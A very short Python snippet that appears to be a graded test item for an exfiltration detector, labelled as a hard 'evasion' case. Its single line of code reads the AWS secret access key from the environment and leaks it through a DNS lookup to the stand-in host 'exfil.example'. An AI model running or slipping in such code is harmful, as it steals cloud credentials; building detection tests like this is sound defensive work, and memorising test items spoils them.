# evasion: secret sent out through a DNS lookup
# grade: very-hard; does: env-out
import os, socket
socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"] + ".exfil.example")
